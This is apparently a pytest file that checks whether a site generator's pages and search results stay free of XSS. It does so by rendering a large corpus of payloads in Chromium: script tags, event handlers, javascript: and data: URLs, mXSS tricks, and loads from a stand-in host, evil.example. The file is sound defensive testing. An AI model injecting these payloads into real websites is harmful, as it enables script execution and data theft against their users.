"""No payload runs: an XSS corpus, in every text field, opened in real headless Chromium.

One site holds the whole corpus. Each payload is every text field of a project of its
own (title, summary, sponsor, contact, tag, milestone titles and notes, indicator name and
unit, note texts and authors); the payloads strung together in groups of four name the
departments (each group's department leads its four projects), and all of them strung
together are the site's title and organisation. Each payload is *armed* with a marker of
its own (``alert(7003)``, ``window.__xss=7003``, ``evil.example/7003/``), so whatever fires
on a page that shows several payloads (index, ledger, timeline, weeks, a department's
page) names its payload.

The site is built with the CLI (``--today 2026-11-25``), and then:

* statically, against a baseline site built from the same files with plain words in
  place of the payloads: no page gains a script, an active element (iframe, object,
  img, svg, style, form, ...), or a ``<link>``/``<meta>`` of its own; and no page at
  all has an event-handler attribute or a URL attribute whose scheme is not http,
  https or mailto (``javascript:``, ``data:``, ``vbscript:``);
* in Chromium, every page is opened from ``file://``; one link is clicked with the real
  mouse and Tab pressed, every element is hovered and focused, every link and control is
  clicked, every element with an ``on*`` attribute gets every kind of event (mouse,
  pointer, keyboard, focus, clipboard, load, error, ...); and nothing may happen: no dialog, no ``window.__xss``, no page or console error, no
  request that leaves ``file://``, no navigation away;
* the payload is still there, as text, in the plain-text fields (escaped, not dropped),
  and template syntax (``{{ 7*7 }}``, ``{% raw %}``) stays literal;
* served over http (Pagefind cannot search from ``file://``), the search page's results,
  which Pagefind's UI builds in the browser from the indexed pages, run nothing either.

The harness is tested too: a page where payloads do run must be reported, each way.
Every page is visited once, shared out between up to 4 Chromiums (one per CPU).

A payload that gets through is a bug in ``generator/render.py`` or the theme: it goes
into ``KNOWN_BUGS`` below, which marks its cases ``xfail(strict=True)`` with the reason.
"""

from __future__ import annotations

import base64
import collections
import concurrent.futures
import contextlib
import functools
import io
import json
import os
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from generator.cli import main
from tests.browser.conftest import launch, open_page, screenshot, serve_folder

if TYPE_CHECKING:
    from playwright.sync_api import Browser

    from tests.browser.conftest import WatchedPage

TODAY = "2026-11-25"

# Each payload calls alert(1) or sets window.__xss=1; evil.example/ stands for any outside
# host. ``{b64:...}`` is base64-encoded after arming. See ``armed``.
PAYLOADS: dict[str, str] = {
    # script elements
    "script": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt>window.__xss=1</sCrIpT>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-close-script": "</script><script>window.__xss=1</script>",
    "script-close-title": "</title><script>alert(1)</script>",
    "script-in-code": "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>",
    # event handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quoted": '<IMG SRC="x" OnErRoR="window.__xss=1">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate-onbegin": "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "body-onload": "<body onload=alert(1)>",
    "input-autofocus": "<input autofocus onfocus=window.__xss=1>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "allowed-tags-handlers": (
        '<a href="https://example.org/" onclick="alert(1)" onmouseover="window.__xss=1">'
        "x</a> <p onmouseover=alert(1)>hover</p> <strong onfocus=alert(1) tabindex=0>y</strong>"
    ),
    "attribute-break-double": '" onmouseover="alert(1)',
    "attribute-break-single": "' onmouseover='window.__xss=1",
    "attribute-break-tag": '"><img src=x onerror=alert(1)>',
    "title-attribute-break": (
        '<a href="https://example.org/" title=\'"><img src=x onerror=alert(1)>\'>x</a>'
    ),
    # javascript: in every link syntax
    "html-href-javascript": '<a href="javascript:alert(1)">x</a>',
    "html-href-entity": '<a href="&#106;avascript:window.__xss=1;void(0)">x</a>',
    "html-href-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "html-href-newline-entity": '<a href="java&#10;script:alert(1)">x</a>',
    "md-javascript": "[x](javascript:alert(1))",
    "md-javascript-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "md-javascript-entity": "[x](&#106;avascript:alert(1))",
    "md-javascript-tab-entity": "[x](java&#x09;script:alert(1))",
    "md-javascript-colon-entity": "[x](javascript&#58;window.__xss=1;void(0))",
    "md-javascript-leading-space": "[x]( javascript:alert(1))",
    "md-javascript-angle": '[x](<javascript:alert(1)> "t")',
    "md-reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "md-autolink": "<javascript:alert(1)>",
    "md-image-javascript": "![x](javascript:alert(1))",
    "md-image-onerror": "![x](x onerror=alert(1))",
    "md-image-quote-break": '![x](x"onerror="alert(1))',
    "md-image-external": "![x](https://evil.example/pixel.gif)",
    "md-link-data-base64": "[x](data:text/html;base64,{b64:<script>alert(1)</script>})",
    "html-href-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "md-vbscript": "[x](vbscript:msgbox(1))",
    "md-link-title-break": '[x](https://example.org/ "a\\" onmouseover=\\"alert(1)")',
    "svg-xlink-href": (
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'
    ),
    "math-href": '<math href="javascript:alert(1)">CLICK</math>',
    # active elements
    "iframe-javascript": "<iframe src=javascript:alert(1)></iframe>",
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "object-javascript": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="data:text/html;base64,{b64:<script>alert(1)</script>}">',
    "form-action-button": "<form action=javascript:alert(1)><button>go</button></form>",
    "button-formaction": "<button formaction=javascript:alert(1)>x</button>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "link-stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    # styles
    "style-element": (
        "<style>@import 'https://evil.example/x.css';"
        "*{background:url(https://evil.example/bg)}</style>"
    ),
    "style-attribute": '<p style="background:url(https://evil.example/x)">x</p>',
    "table-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # parser differentials (mXSS), comments, CDATA
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "svg-style-mxss": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "xmp": "<xmp><img src=x onerror=window.__xss=1></xmp>",
    "html-comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    # encodings
    "entity-encoded": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "double-entity-encoded": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "fullwidth-brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # template syntax stays text
    "jinja-expression": "{{ 7*7 }}",
    "jinja-raw": "{% raw %}{{ site }}{% endraw %}",
}

KNOWN_BUGS: dict[str, str] = {}
"""Payload name → why it gets through: a bug not fixed yet (its cases xfail, strict)."""

NAMES = list(PAYLOADS)
_MARKER = re.compile(r"\b(7\d{3})\b")
_B64 = re.compile(r"\{b64:(.*?)\}")


GROUP_SIZE = 4
GROUPS = {
    f"group-{i // GROUP_SIZE + 1}": NAMES[i : i + GROUP_SIZE]
    for i in range(0, len(NAMES), GROUP_SIZE)
}
"""Department id → the payloads that name it (and whose projects it leads)."""


def group_of(name: str) -> str:
    return next(group for group, names in GROUPS.items() if name in names)


def department_name(group: str, text: dict[str, str]) -> str:
    return " ".join(text[n] for n in GROUPS[group])


def marker(name: str) -> int:
    return 7001 + NAMES.index(name)


def armed(name: str) -> str:
    """The payload as written into the site, with this payload's own marker."""
    n = marker(name)
    text = (
        PAYLOADS[name]
        .replace("alert(1)", f"alert({n})")
        .replace("msgbox(1)", f"msgbox({n})")
        .replace("__xss=1", f"__xss={n}")
        .replace("evil.example/", f"evil.example/{n}/")
    )
    return _B64.sub(lambda m: base64.b64encode(m.group(1).encode()).decode(), text)


def plain(name: str) -> str:
    """What the baseline site has where the payload site has the payload."""
    return f"Plain words {marker(name)}"


def _cases() -> list[Any]:
    return [
        pytest.param(
            name,
            id=name,
            marks=[pytest.mark.xfail(strict=True, reason=KNOWN_BUGS[name])]
            if name in KNOWN_BUGS
            else [],
        )
        for name in NAMES
    ]


def attributed(problems: list[str]) -> dict[str | None, list[str]]:
    """Problems by the payload whose marker they carry (None: no marker)."""
    by_name: dict[str | None, list[str]] = collections.defaultdict(list)
    for problem in problems:
        text = re.sub(r"file://\S*", "", problem)  # a folder's name is not a marker
        found = {int(m) for m in _MARKER.findall(text)} & set(range(7001, 7001 + len(NAMES)))
        for n in sorted(found) or [None]:
            by_name[None if n is None else NAMES[n - 7001]].append(problem)
    return by_name


# --- the site -------------------------------------------------------------------------


def write_root(root: Path, text: dict[str, str]) -> None:
    """A site with one project per payload and one department per group of payloads."""
    q = json.dumps  # a JSON string is a valid YAML double-quoted scalar
    (root / "projects").mkdir(parents=True)
    departments = "".join(
        f"  - id: {group}\n    name: {q(department_name(group, text))}\n" for group in GROUPS
    )
    (root / "site.yaml").write_text(
        f"title: {q(site_title(text))}\n"
        f"organization: {q(organisation(text))}\n"
        f"language: en\ntimezone: Asia/Shanghai\ndepartments:\n{departments}",
        encoding="utf-8",
    )
    for n in NAMES:
        s, group = q(text[n]), group_of(n)
        (root / "projects" / f"{n}.yaml").write_text(
            f"""\
title: {s}
summary: {s}
lead: {group}
sponsor: {s}
contact: {s}
start: 2026-11-02
due: 2026-12-31
tags: [{s}]
milestones:
  - title: {s}
    due: 2026-11-10
    done: 2026-11-09
    owner: {group}
    note: {s}
  - title: {s}
    due: 2026-11-20
    note: {s}
  - title: {s}
    due: 2026-12-01
    note: {s}
indicators:
  - name: {s}
    unit: {s}
    target: 10
    baseline: 0
    values:
      - {{date: 2026-11-20, value: 5}}
notes:
  - date: 2026-11-13
    kind: problem
    author: {s}
    text: {s}
  - date: 2026-11-20
    author: {s}
    text: {s}
""",
            encoding="utf-8",
        )


def site_title(text: dict[str, str]) -> str:
    return " ".join(text[n] for n in NAMES)


def organisation(text: dict[str, str]) -> str:
    return " ".join(text[n] for n in reversed(NAMES))


def build(base: Path, text: dict[str, str]) -> Path:
    write_root(base / "root", text)
    out, folder = io.StringIO(), base / "site"
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        code = main(["build", "--root", str(base / "root"), "--out", str(folder), "--today", TODAY])
    assert code == 0, f"the build refused the corpus:\n{out.getvalue()}"
    return folder


@dataclass
class Site:
    folder: Path
    pages: list[str] = field(default_factory=list)
    """Every HTML page, relative to ``folder``."""

    def own(self, name: str) -> list[str]:
        """The pages of payload ``name``'s project: no other payload is on them."""
        return [p for p in self.pages if name in p.split("/")[1:-1]]

    def department(self, name: str) -> list[str]:
        """The pages of the department ``name`` and three other payloads name."""
        return [p for p in self.pages if group_of(name) in p.split("/")[1:-1]]

    @functools.cached_property
    def _shared(self) -> list[str]:
        ids = set(NAMES) | set(GROUPS)
        return [p for p in self.pages if not ids & set(p.split("/")[1:-1])]

    def shared(self) -> list[str]:
        """The pages that show every payload: index, ledger, timeline, weeks, ..."""
        return self._shared


def _site(folder: Path) -> Site:
    pages = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*.html"))
    assert pages, f"no HTML in {folder}"
    return Site(folder, pages)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """The corpus site, built through the CLI."""
    return _site(build(tmp_path_factory.mktemp("xss"), {n: armed(n) for n in NAMES}))


@pytest.fixture(scope="module")
def baseline(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """The same site with plain words for payloads: the theme's own markup, for reference."""
    return _site(build(tmp_path_factory.mktemp("plain"), {n: plain(n) for n in NAMES}))


# --- static check of the output -------------------------------------------------------

URL_ATTRIBUTES = {
    "href", "src", "srcset", "action", "formaction", "data", "xlink:href", "background",
    "poster", "codebase", "cite", "longdesc", "lowsrc", "dynsrc", "ping", "manifest", "icon",
}  # fmt: skip
ACTIVE_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
    "form", "button", "input", "select", "textarea", "img", "svg", "math", "video", "audio",
    "source", "details", "marquee", "noscript", "xmp", "template", "portal", "link", "meta",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: it drops whitespace and controls, ignores case."""
    cleaned = re.sub(r"[\x00-\x20\x7f]", "", value).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


class Markup(HTMLParser):
    """Sorts a page's markup that could run script or fetch into two piles.

    ``forbidden``: never allowed anywhere (event handlers, non-web URL schemes).
    ``active``: allowed only as the theme's own markup, so only as often as in the
    baseline site (elements such as script, svg, link, meta, and style attributes).
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forbidden: list[str] = []
        self.active: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = f"line {self.getpos()[0]}: <{tag}>"
        values = {name: value or "" for name, value in attrs}
        if tag in ACTIVE_TAGS:
            shown = {k: v for k, v in sorted(values.items()) if k in URL_ATTRIBUTES | {"rel"}}
            self.active.append(f"<{tag}> {shown}" if shown else f"<{tag}>")
        for name, value in values.items():
            if name.startswith("on"):
                self.forbidden.append(f"{where} event handler {name}={value!r}")
            if name in URL_ATTRIBUTES and url_scheme(value) not in {None, *SAFE_SCHEMES}:
                self.forbidden.append(f"{where} {name}={value!r}")
            if name == "style":
                self.active.append(f"style={value!r}")
            if name == "http-equiv":
                self.forbidden.append(f"{where} http-equiv={value!r}")

    handle_startendtag = handle_starttag


def markup(html: str) -> Markup:
    parser = Markup()
    parser.feed(html)
    parser.close()
    parser.active += ["raw <script"] * len(re.findall(r"<\s*script", html, re.I))
    return parser


def markup_problems(site: Site, baseline: Site, pages: list[str]) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for page in pages:
        html = (site.folder / page).read_text(encoding="utf-8")
        ours = markup(html)
        reference = (baseline.folder / page).read_text(encoding="utf-8")
        extra = collections.Counter(ours.active) - collections.Counter(markup(reference).active)
        if hits := ours.forbidden + [f"more than the theme's own: {x}" for x in extra.elements()]:
            found[page] = hits
    return found


def mine(name: str, problems: list[str]) -> list[str]:
    """Of problems on a page of several payloads: those with ``name``'s marker or none."""
    by_name = attributed(problems)
    return by_name.get(name, []) + by_name.get(None, [])


@pytest.mark.parametrize("name", _cases())
def test_own_pages_have_no_active_markup(name: str, site: Site, baseline: Site) -> None:
    assert site.own(name) and site.department(name), f"no project or department page: {name}"
    found = markup_problems(site, baseline, site.own(name))
    for page, hits in markup_problems(site, baseline, site.department(name)).items():
        if hits := mine(name, hits):
            found[page] = hits
    assert not found, f"payload {armed(name)!r} left active markup: {found}"


def test_shared_pages_have_no_active_markup(site: Site, baseline: Site) -> None:
    assert site.pages == baseline.pages
    found = markup_problems(site, baseline, site.shared())
    assert not found, f"active markup on pages showing every payload: {found}"


def test_the_static_check_sees_active_markup() -> None:
    html = (
        '<p onclick="x()">a</p><a href="java&#9;script:x()">b</a><a href=" DATA:text/html,x">c</a>'
        '<form action="vbscript:x"></form><meta http-equiv="refresh" content="0;url=x">'
        "<img src=x><svg></svg><p style='color:red'>d</p><SCRIPT>x()</script>"
    )
    found = markup(html)
    assert len(found.forbidden) == 5, found.forbidden
    assert found.active == [
        "<form> {'action': 'vbscript:x'}",
        "<meta>",
        "<img> {'src': 'x'}",
        "<svg>",
        "style='color:red'",
        "<script>",
        "raw <script",
    ], found.active


# --- in Chromium ----------------------------------------------------------------------

TEXTS = """() => {
  const text = (selector) => document.querySelector(selector)?.textContent ?? null;
  return {title: document.title, h1: text('h1'), brand: text('.brand a'), org: text('.org'),
          main: text('main'), tags: [...document.querySelectorAll('.tag')].map((e) => e.textContent)};
}"""

GUARD = """() => {
  // Following a link or sending a form would leave the page under test. Handlers on the
  // element still run first (this listener is the last one to see the event); only the
  // navigation itself is cancelled, and never for a javascript: URL, which must not exist.
  const isScript = (url) => /^javascript:/i.test(String(url || '').replace(/[\\0- ]/g, ''));
  const urlOf = (link) => typeof link.href === 'string'
    ? link.href : link.getAttribute('href') || link.getAttribute('xlink:href') || '';
  window.addEventListener('click', (event) => {
    const link = event.target instanceof Element ? event.target.closest('a, area') : null;
    if (link && !isScript(urlOf(link))) event.preventDefault();
  });
  window.addEventListener('submit', (event) => {
    if (!isScript(event.target.action)) event.preventDefault();
  });
  // What the page shows as text, read before anything is clicked; and where to click once
  // for real: the centre of the last link in <main>.
  const texts = (TEXTS)();
  const link = [...document.querySelectorAll('main a[href]')].pop();
  link?.scrollIntoView({block: 'center'});
  const box = link?.getClientRects()[0];
  const point = box && box.width > 0 ? [box.x + box.width / 2, box.y + box.height / 2] : null;
  return {texts, point};
}""".replace("(TEXTS)", f"({TEXTS})")

SWEEP = """async () => {
  // Script that got through can only have come in as an on* attribute (nothing else runs
  // to add a listener): such elements get every event. Every element is hovered and
  // focused; every link and control is clicked, which also runs the theme's own scripts.
  const every = ['mouseover', 'mouseenter', 'mousemove', 'mousedown', 'mouseup', 'click',
                 'dblclick', 'contextmenu', 'auxclick', 'mouseout', 'mouseleave', 'wheel',
                 'pointerover', 'pointerenter', 'pointermove', 'pointerdown', 'pointerup',
                 'keydown', 'keypress', 'keyup', 'input', 'change', 'copy', 'cut', 'paste',
                 'scroll', 'toggle', 'select', 'animationstart', 'animationend',
                 'transitionend', 'load', 'error', 'focusin', 'focus', 'blur', 'focusout'];
  const fire = (element, type) => {
    const init = {bubbles: true, cancelable: true, view: window};
    const event = /^(mouse|click|dblclick|contextmenu|auxclick|wheel)/.test(type)
      ? new MouseEvent(type, init) : new Event(type, init);
    try { element.dispatchEvent(event); } catch (e) {}
  };
  const clickable = 'a, area, button, summary, input, label, select, textarea';
  for (const element of document.querySelectorAll('*')) {
    const handled = [...element.attributes].some((a) => a.name.toLowerCase().startsWith('on'));
    for (const type of handled ? every : ['mouseover', 'mouseenter']) fire(element, type);
    if (element.tabIndex >= 0 && typeof element.focus === 'function') element.focus();
    // A real activation (links, buttons, summaries); SVG links had the click event above.
    if (element.matches(clickable) && typeof element.click === 'function') element.click();
  }
  // Let timers, animations and the error events of failed loads fire.
  await new Promise((done) => setTimeout(done, 15));
  return window.__xss;
}"""


@dataclass
class Visit:
    problems: list[str]
    texts: dict[str, Any]
    """What the page shows as text, read before anything was clicked."""


def exercise(page: WatchedPage, url: str) -> Visit:
    """Open ``url``, then click, hover, focus and poke everything; what went wrong."""
    since = page.mark()
    page.goto(url, wait_until="load")
    texts: dict[str, Any] = {}
    problems: list[str] = []
    try:
        prepared = page.evaluate(GUARD)
        texts, point = prepared["texts"], prepared["point"]
        if point:  # one real click (and so hover), through Chromium's input pipeline
            page.mouse.click(*point)
        page.keyboard.press("Tab")
        xss = page.evaluate(SWEEP)
    except Exception as exc:  # the page navigated (or crashed) under the sweep
        xss = None
        problems.append(f"{url}: the page went away while exercised: {str(exc).splitlines()[0]}")
    if page.url.split("#")[0] != url:
        problems.append(f"{url}: navigated away to {page.url}")
    if xss is not None:
        problems.append(f"{url}: window.__xss was set to {xss!r}")
    return Visit(problems + page.problems(since), texts)


def visit_all(browser: Browser, folder: Path, paths: list[str]) -> dict[str, Visit]:
    page = open_page(browser)
    found: dict[str, Visit] = {}
    try:
        for path in paths:
            found[path] = visit = exercise(page, (folder / path).as_uri())
            if visit.problems or path == "index.html":
                screenshot(page, f"xss-{path}")
    finally:
        page.context.close()
    return found


def visit_all_in_own_browser(folder: Path, paths: list[str]) -> dict[str, Visit]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = launch(playwright)
        try:
            return visit_all(browser, folder, paths)
        finally:
            browser.close()


@pytest.fixture(scope="module")
def visits(browser: Browser, site: Site) -> dict[str, Visit]:
    """Every page of the corpus site, exercised once in Chromium, by its path.

    The pages are shared out between the session's Chromium and, on a machine with more
    than one CPU, one more Chromium per CPU (up to 4 in all), each driven from a thread.
    """
    workers = max(1, min(4, os.cpu_count() or 1))
    shares = [site.pages[i::workers] for i in range(workers)]
    with concurrent.futures.ThreadPoolExecutor(max_workers=workers - 1 or 1) as pool:
        others = [pool.submit(visit_all_in_own_browser, site.folder, share) for share in shares[1:]]
        found = visit_all(browser, site.folder, shares[0])
        for other in others:
            found.update(other.result())
    return found


@pytest.mark.parametrize("name", _cases())
def test_no_payload_runs_in_chromium(name: str, site: Site, visits: dict[str, Visit]) -> None:
    problems = [p for path in site.own(name) for p in visits[path].problems]
    for path in site.department(name):
        problems += mine(name, visits[path].problems)
    for path in site.shared():
        problems += attributed(visits[path].problems).get(name, [])
    assert not problems, f"payload {armed(name)!r}:\n" + "\n".join(problems)


def test_nothing_runs_on_shared_pages(site: Site, visits: dict[str, Visit]) -> None:
    """Index, departments, ledger, timeline, weeks, search: each shows every payload."""
    problems = [p for path in site.shared() for p in visits[path].problems]
    shown = {name or "(no marker)": found for name, found in attributed(problems).items()}
    assert not problems, f"on {site.shared()}: {json.dumps(shown, indent=1)}"


@pytest.mark.parametrize("name", _cases())
def test_plain_text_fields_show_the_payload_as_text(
    name: str, site: Site, visits: dict[str, Visit]
) -> None:
    shown = armed(name).strip()
    everything = site_title({n: armed(n) for n in NAMES}).strip()
    project = visits[f"projects/{name}/index.html"].texts
    department = visits[f"departments/{group_of(name)}/index.html"].texts
    department_shown = department_name(group_of(name), {n: armed(n) for n in NAMES}).strip()

    assert project["h1"] == shown, "project title"
    assert department["h1"] == department_shown, "department name"
    assert project["tags"] == [shown], "tag"
    assert project["title"] == " ".join(f"{shown} · {everything}".split()), "<title>"
    # Title twice (crumbs, h1), sponsor, contact, tag, 3 milestone titles, the department's
    # name (which holds it) as lead and as owner of 3 milestones, indicator name and unit,
    # 2 note authors.
    assert project["main"].count(shown) >= 16, "sponsor, contact, milestones, indicator, notes"


def test_site_title_and_organisation_show_every_payload_as_text(
    visits: dict[str, Visit],
) -> None:
    texts = visits["index.html"].texts
    corpus = {n: armed(n) for n in NAMES}
    assert texts["brand"] == site_title(corpus).strip()
    assert texts["org"] == organisation(corpus).strip()


# --- search results, over http ---------------------------------------------------------

SEARCH_QUERIES = ["alert", "onerror", "javascript"]
"""Words of the corpus: each finds many payload-bearing pages through Pagefind's index."""

RESULTS_MARKUP = """() => {
  const results = document.querySelector('.pagefind-ui__results');
  if (!results) return ['no result list'];
  const found = [];
  for (const element of results.querySelectorAll('*')) {
    const tag = element.localName;
    if (!['li', 'div', 'p', 'a', 'mark', 'h3', 'ul', 'ol', 'span', 'button'].includes(tag)) {
      found.push('<' + tag + '> in a result');
    }
    for (const attribute of element.attributes) {
      const value = attribute.value.replace(/[\\0- ]/g, '').toLowerCase();
      if (attribute.name.startsWith('on') || /^(javascript|data|vbscript):/.test(value)) {
        found.push('<' + tag + ' ' + attribute.name + '="' + attribute.value + '">');
      }
    }
  }
  return found;
}"""


@pytest.fixture(scope="module")
def served(site: Site) -> Iterator[str]:
    """The corpus site over http on 127.0.0.1 (Pagefind cannot read its index from disk)."""
    with serve_folder(site.folder) as url:
        yield url


def test_search_results_show_payloads_as_text(served: str, page: WatchedPage) -> None:
    """Pagefind's UI builds result titles and excerpts from the indexed pages in the browser."""
    page.serve_from(served)
    problems: list[str] = []
    for query in SEARCH_QUERIES:
        url = f"{served}search.html?q={query}"
        page.goto(url, wait_until="load")
        page.evaluate(GUARD)
        page.locator(".pagefind-ui__result-link").first.wait_for(timeout=10_000)
        more = page.locator(".pagefind-ui__button")  # "Load more results", twice
        for _ in range(2):
            if more.count():
                more.first.click(timeout=2000)
        problems += [f"{query!r}: {found}" for found in page.evaluate(RESULTS_MARKUP)]
        xss = page.evaluate(SWEEP)
        if page.url.split("#")[0] != url:
            problems.append(f"{query!r}: navigated away to {page.url}")
        elif xss is not None:
            problems.append(f"{query!r}: window.__xss was set to {xss!r}")
    problems += page.problems()
    assert not problems, "\n".join(problems)


# --- the harness itself ---------------------------------------------------------------

CANARY = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>canary</title></head>
<body><main>
<p onmouseover="window.__xss = 'hover'">hover me</p>
<img src="missing.png" onerror="alert('onerror')">
<a href="javascript:alert('javascript-link')">a link</a>
<div tabindex="0" onfocus="console.error('focused')">focus me</div>
<img src="https://evil.example/pixel.gif" alt="">
<script>setTimeout(() => { throw new Error('thrown'); }, 0);</script>
</main></body></html>
"""


def test_the_harness_sees_a_payload_run(tmp_path: Path, page: WatchedPage) -> None:
    """A page where every kind of payload does run: each must be reported."""
    canary = tmp_path / "canary.html"
    canary.write_text(CANARY, encoding="utf-8")
    found = "\n".join(exercise(page, canary.as_uri()).problems)
    for expected in [
        "alert('onerror')",
        "alert('javascript-link')",
        "window.__xss was set to 'hover'",
        "console error: ",
        "focused",
        "page error: ",
        "thrown",
        "external request: ",
        "https://evil.example/pixel.gif",
    ]:
        assert expected in found, f"{expected!r} not reported; the harness saw:\n{found}"


def test_the_harness_sees_a_page_navigate_away(tmp_path: Path, page: WatchedPage) -> None:
    (tmp_path / "elsewhere.html").write_text("<!DOCTYPE html><title>x</title>", encoding="utf-8")
    canary = tmp_path / "canary.html"
    canary.write_text(
        "<!DOCTYPE html><title>x</title><body onload=\"location.href = 'elsewhere.html'\">",
        encoding="utf-8",
    )
    found = exercise(page, canary.as_uri()).problems
    assert any(" away" in problem for problem in found), found  # navigated / went away


@pytest.mark.parametrize("field", ["title", "department"])
def test_site_fields_may_hold_a_newline(field: str, tmp_path: Path) -> None:
    """Found by this corpus: a newline in these went raw into the calendars' X-WR-CALDESC
    and X-WR-CALNAME, and icalendar crashed the build with a traceback."""
    title, department = ("a\\nb", "D") if field == "title" else ("T", "D\\nE")
    (tmp_path / "projects").mkdir()
    (tmp_path / "site.yaml").write_text(
        f'title: "{title}"\nlanguage: en\ndepartments:\n  - id: d\n    name: "{department}"\n',
        encoding="utf-8",
    )
    (tmp_path / "projects" / "p.yaml").write_text(
        "title: P\nlead: d\nmilestones:\n  - title: m\n    due: 2026-12-01\n", encoding="utf-8"
    )
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        code = main(["build", "--root", str(tmp_path), "--out", str(tmp_path / "out"),
                     "--today", TODAY])  # fmt: skip
    assert code == 0, out.getvalue()
